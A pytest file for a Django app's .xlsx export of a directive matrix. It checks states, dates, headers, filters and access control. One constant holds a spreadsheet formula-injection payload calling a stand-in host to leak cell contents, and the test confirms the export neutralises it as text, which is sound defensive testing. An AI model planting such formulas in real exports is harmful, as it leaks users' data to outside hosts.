"""The directive matrix as .xlsx: every recipient with its state, dates as dates, answers written as text."""

from __future__ import annotations

import datetime
import io

import openpyxl
from django.urls import reverse

from chuxin.directives import services

from .conftest import row_of

HOSTILE = '=HYPERLINK("http://x/?"&A1,"x")'


def _sheet(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_the_matrix_exports_with_states_dates_and_safe_answers(world, three, sent_to_three, client_for):
    services.directive_acknowledge(actor=world.secretary, recipient=row_of(sent_to_three, world.b1))
    services.directive_complete(actor=world.secretary, recipient=row_of(sent_to_three, world.b1), answer=HOSTILE)
    client = client_for(world.worker)
    page = client.get(reverse("directives:detail", args=[sent_to_three.pk])).content.decode()
    assert reverse("directives:export", args=[sent_to_three.pk]) in page

    ws = _sheet(client.get(reverse("directives:export", args=[sent_to_three.pk])))
    assert ws["A1"].value == sent_to_three.title
    assert isinstance(ws["C1"].value, datetime.datetime) and ws["C1"].value.date() == sent_to_three.due_on
    assert [c.value for c in ws[2]] == ["Organization", "State", "Behind", "Acknowledged", "Completed", "Answer",
                                        "Reminders", "Tasks done"]
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["A"].width == 30 and ws.column_dimensions["F"].width == 60
    rows = {row[0].value: row for row in ws.iter_rows(min_row=3)}
    assert set(rows) == {world.b1.name, world.b2.name, three.b3.name}
    done = rows[world.b1.name]
    assert done[1].value == str(services.State.COMPLETED.label)
    assert isinstance(done[3].value, datetime.datetime) and isinstance(done[4].value, datetime.datetime)
    assert done[5].data_type == "s" and done[5].value == "'" + HOSTILE
    assert rows[world.b2.name][3].value is None and rows[world.b2.name][1].value == str(services.State.SENT.label)

    # The page's filter goes with it: only those not acknowledged.
    ws = _sheet(client.get(reverse("directives:export", args=[sent_to_three.pk]), {"show": "sent"}))
    assert {row[0].value for row in ws.iter_rows(min_row=3)} == {world.b2.name, three.b3.name}


def test_a_recipient_cannot_export_the_senders_matrix(world, sent_to_three, client_for):
    response = client_for(world.secretary).get(reverse("directives:export", args=[sent_to_three.pk]))
    assert response.status_code in (403, 404)
